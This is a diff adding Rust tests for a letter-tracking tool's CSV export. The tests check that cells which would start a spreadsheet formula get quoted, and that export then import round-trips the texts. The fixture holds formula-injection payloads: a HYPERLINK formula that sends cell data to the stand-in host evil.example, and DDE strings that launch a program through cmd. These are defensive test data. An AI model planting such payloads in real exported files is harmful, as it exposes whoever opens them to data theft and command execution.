@@ -15,8 +15,9 @@ use std::path::PathBuf;
 use std::sync::Arc;
 
 use docket::model::{City, Closing, Docket, Extension, Letter, Reply, ReplyKind};
+use proptest::prelude::*;
 use support::cli::{docket, empty_file, fails, import, ok, stderr};
-use support::files::{data_file, write};
+use support::files::{data_file, load, write};
 use support::letters::{date, letter};
 use tempfile::TempDir;
 
@@ -335,5 +336,140 @@ fn the_interface_shows_no_control_characters() {
             screen.push_str(cell.symbol());
         }
         assert!(screen.contains("Reno"), "{screen}");
+    }
+}
+
+// Point 7: CSV cells cannot become formulas.
+
+/// A letter whose texts a spreadsheet would run as formulas, overdue as
+/// of 2017-08-21 (a negative count of days left).
+fn formula_letter() -> Letter {
+    letter("reno-2017-08-03", "reno", "2017-08-03")
+        .from("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
+        .to("@SUM(1+1)*cmd|' /C calc'!A0")
+        .subject("+1+2")
+        .program("=cmd|' /C calc'!A0")
+        .due("2017-08-18")
+        .demands(["-2+3", "=1"])
+        .summary("\t=1+1")
+        .source("\r=1")
+        .tags(["'=already quoted", "''@twice"])
+        .closing(Closing {
+            on: date("2017-08-30"),
+            outcome: "'plain quote".to_owned(),
+        })
+        .build()
+}
+
+/// The cells of the CSV's second row, by column name.
+fn csv_row(text: &str) -> Vec<(String, String)> {
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    header
+        .iter()
+        .map(str::to_owned)
+        .zip(row.iter().map(str::to_owned))
+        .collect()
+}
+
+#[test]
+fn csv_cells_that_would_start_a_formula_are_quoted() {
+    let (_dir, file) = file_of(&docket_of(vec![reno()], vec![formula_letter()]));
+    let out = ok(&docket(
+        &file,
+        &["--as-of", "2017-08-21", "export", "--format", "csv"],
+    ));
+    let row = csv_row(&out);
+    let cell = |name: &str| row.iter().find(|(n, _)| n == name).unwrap().1.clone();
+    assert_eq!(
+        cell("from"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell("to"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("subject"), "'+1+2");
+    assert_eq!(cell("program"), "'=cmd|' /C calc'!A0");
+    assert_eq!(cell("demands"), "'-2+3 | =1");
+    assert_eq!(cell("summary"), "'\t=1+1");
+    assert_eq!(cell("source"), "'\r=1");
+    assert_eq!(cell("tags"), "''=already quoted | ''@twice");
+    assert_eq!(cell("outcome"), "'plain quote");
+    // Dates and numbers are as they are.
+    assert_eq!(cell("sent"), "2017-08-03");
+    assert_eq!(cell("days_left"), "-3");
+    assert_eq!(cell("business_days_left"), "-1");
+    assert_eq!(cell("closed_on"), "2017-08-30");
+    for (name, value) in &row {
+        let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(!formula || name.ends_with("days_left"), "{name}: {value:?}");
+    }
+}
+
+#[test]
+fn csv_export_then_import_gives_the_texts_back_exactly() {
+    let (dir, file) = file_of(&docket_of(vec![reno()], vec![formula_letter()]));
+    let out = ok(&docket(
+        &file,
+        &["--as-of", "2017-08-21", "export", "--format", "csv"],
+    ));
+    let input = write(&dir, "out.csv", &out);
+    let target = empty_file(&dir);
+    ok(&import(&target, "csv", &input, &[]));
+    let imported = load(&target);
+    assert_eq!(*imported.letters[0], formula_letter());
+    assert_eq!(imported.cities, [reno()]);
+}
+
+/// Text that starts like a formula, quoted or not, more often than not.
+fn formula_text() -> impl Strategy<Value = String> {
+    let start = prop::sample::select(vec![
+        "", "'", "''", "=", "+", "-", "@", "\t", "\r", "'=", "''+", "'a", "\n",
+    ]);
+    (start, support::strategies::text()).prop_map(|(start, rest)| format!("{start}{rest}"))
+}
+
+/// An item of a list cell: not empty and without the separator.
+fn item() -> impl Strategy<Value = String> {
+    formula_text().prop_filter("an item of a list cell", |t| {
+        !t.is_empty() && !t.contains('|')
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn csv_round_trips_any_text(
+        (from, to, subject, summary, outcome) in (formula_text(), formula_text(), formula_text(), formula_text(), formula_text()),
+        program in formula_text().prop_filter("not empty", |t| !t.is_empty()),
+        demands in prop::collection::vec(item(), 0..3),
+        tags in prop::collection::vec(item(), 0..3),
+        (name, state) in (formula_text(), formula_text()),
+    ) {
+        let city = City { name, state, ..reno() };
+        let letter = letter("reno-1", "reno", "2017-08-03")
+            .from(from)
+            .to(to)
+            .subject(subject)
+            .program(program.clone())
+            .source(program)
+            .demands(demands)
+            .summary(summary)
+            .tags(tags)
+            .closing(Closing { on: date("2017-08-30"), outcome })
+            .build();
+        let docket = docket_of(vec![city.clone()], vec![letter.clone()]);
+        let text = docket::export::csv::to_csv(&docket, date("2017-08-21"));
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+            }
+        }
+        let parsed = docket::import::csv::parse(&text);
+        prop_assert_eq!(parsed.errors, []);
+        prop_assert_eq!(&parsed.rows[0].letter, &letter);
+        prop_assert_eq!(&parsed.rows[0].city_name, &city.name);
+        prop_assert_eq!(&parsed.rows[0].state, &city.state);
     }
 }
